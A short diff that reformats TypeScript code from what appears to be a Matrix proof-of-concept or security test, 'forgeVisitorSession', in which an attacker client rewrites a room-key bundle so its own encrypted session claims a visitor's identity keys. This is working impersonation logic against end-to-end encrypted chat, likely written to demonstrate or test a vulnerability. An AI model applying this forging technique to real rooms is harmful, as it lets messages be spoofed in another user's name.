@@ -28,7 +28,13 @@ export async function forgeVisitorSession(attacker: MatrixClient, roomId: string
   const ed = device?.getFingerprint();
   if (!device || !curve || !ed) throw new Error(`no device keys of ${visitorUserId}`);
 
-  const ev = new MatrixEvent({ type: EventType.RoomMessage, content: { msgtype: MsgType.Text, body: text }, room_id: roomId, sender: attacker.getSafeUserId(), event_id: `$forged-${Date.now()}` });
+  const ev = new MatrixEvent({
+    type: EventType.RoomMessage,
+    content: { msgtype: MsgType.Text, body: text },
+    room_id: roomId,
+    sender: attacker.getSafeUserId(),
+    event_id: `$forged-${Date.now()}`,
+  });
   await backend.encryptEvent(ev, room);
   const wire = ev.getWireContent();
   const sessionId = String(wire.session_id);
@@ -41,7 +47,9 @@ export async function forgeVisitorSession(attacker: MatrixClient, roomId: string
     const real = (await build(r)) as Parameters<typeof Attachment.decrypt>[0] | undefined;
     if (!real) throw new Error("the attacker has no room key to bundle");
     const bundle = JSON.parse(new TextDecoder().decode(Attachment.decrypt(real))) as { room_keys: BundleKey[] };
-    bundle.room_keys = bundle.room_keys.filter((k) => k.session_id === sessionId).map((k) => ({ ...k, sender_key: curve, sender_claimed_keys: { ed25519: ed } }));
+    bundle.room_keys = bundle.room_keys
+      .filter((k) => k.session_id === sessionId)
+      .map((k) => ({ ...k, sender_key: curve, sender_claimed_keys: { ed25519: ed } }));
     if (!bundle.room_keys.length) throw new Error("the forged session is not in the attacker's bundle");
     return Attachment.encrypt(new TextEncoder().encode(JSON.stringify(bundle)));
   };
